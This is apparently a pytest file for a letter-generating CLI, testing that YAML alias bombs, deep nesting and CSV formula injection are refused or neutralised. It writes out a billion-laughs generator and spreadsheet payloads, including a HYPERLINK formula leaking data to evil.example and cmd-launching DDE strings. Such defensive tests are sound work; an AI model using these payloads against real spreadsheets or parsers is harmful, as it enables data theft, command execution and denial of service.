"""Hostile and broken input (issue 14): no traceback, no silent change, no lost file, no
injection. Each hostile input is written here by the test; bombs are generated."""

from __future__ import annotations

from pathlib import Path

from conftest import ROOT

from ua_letters.cli import app

CASE = ROOT / "cases" / "ua-33.23.yaml"
ON = ["--date", "2023-07-01"]


def snapshot(*folders: Path) -> dict[Path, bytes]:
    """Every file under `folders` (links as links), to show nothing the user had changed."""
    files = {}
    for folder in folders:
        for path in sorted(folder.rglob("*")):
            if path.is_symlink():
                files[path] = b"-> " + str(path.readlink()).encode()
            elif path.is_file():
                files[path] = path.read_bytes()
    return files


def one_line_error(result, *words: str) -> str:
    """The run failed with exit 2 and one-line messages, no traceback, naming `words`."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception)
    for word in words:
        assert word in result.stderr, result.stderr
    return result.stderr


# --- 1. YAML anchors and aliases ("billion laughs") ---------------------------------------

def alias_bomb(levels: int = 9) -> str:
    """Each level lists the previous one nine times: 9**levels strings from a few hundred
    bytes."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def test_an_alias_bomb_in_a_case_file_is_refused_at_its_line(runner, in_tmp):
    cases = in_tmp / "cases"
    cases.mkdir()
    (cases / "ua-1.23.yaml").write_text('ua: "1.23"\n' + alias_bomb(), encoding="utf-8")
    before = snapshot(in_tmp)
    listed = runner.invoke(app, ["cases"])
    assert listed.exit_code == 0, listed.output
    assert "33.23" in listed.stdout
    assert "ua-1.23.yaml:2: YAML anchor or alias '&l0' is not allowed" in listed.stderr
    one_line_error(runner.invoke(app, ["show", "1.23"]), "ua-1.23.yaml:2: YAML anchor")
    one_line_error(runner.invoke(app, ["show", "9.99"]), "unknown case '9.99'")
    one_line_error(runner.invoke(app, ["validate", "cases"]), "ua-1.23.yaml:2:")
    assert snapshot(in_tmp) == before


def test_an_alias_in_the_profile_is_refused_at_its_line(runner, in_tmp, isolated_home):
    file = isolated_home / ".config" / "ua-letters" / "profile.yaml"
    file.parent.mkdir(parents=True)
    file.write_text("name: &n Jane\ncity: *n\n" + alias_bomb(), encoding="utf-8")
    before = snapshot(isolated_home, in_tmp)
    result = runner.invoke(app, ["generate", "33.23", "--to", "ma-xingrui"])
    one_line_error(result, "profile.yaml:1: YAML anchor or alias '&n' is not allowed")
    assert snapshot(isolated_home, in_tmp) == before


def test_deep_nesting_is_refused_not_a_recursion_error(runner, in_tmp):
    (in_tmp / "deep.yaml").write_text("ua: " + "[" * 5000 + "]" * 5000 + "\n")
    one_line_error(runner.invoke(app, ["validate", "deep.yaml"]), "deep.yaml:1: invalid YAML")


# --- 2. formula injection in manifest.csv -------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def write_roster(path: Path, names: list[str], emails: bool = True) -> Path:
    import csv

    with path.open("w", encoding="utf-8", newline="") as handle:
        table = csv.writer(handle)
        table.writerow(["name", "city", "email"])
        for i, name in enumerate(names):
            table.writerow([name, "Oxford", f"w{i}@example.org" if emails else ""])
    return path


def test_manifest_cells_never_start_a_formula(runner, in_tmp):
    import csv

    roster = write_roster(in_tmp / "list.csv", FORMULAS)
    result = runner.invoke(app, ["batch", "33.23", str(roster), "-o", "out", "--separate",
                                 "--to", "qin-gang", "-q", *ON])
    assert result.exit_code == 0, result.output
    text = (in_tmp / "out" / "manifest.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))[1:]
    assert len(rows) == 2 * len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    writers = [row[1] for row in rows if row[4] == "post"]
    assert writers == ["'" + name for name in FORMULAS]  # readable: the value follows the '
    files = [row[5] for row in rows]
    assert all((in_tmp / "out" / name.removeprefix("'")).is_file() for name in files)
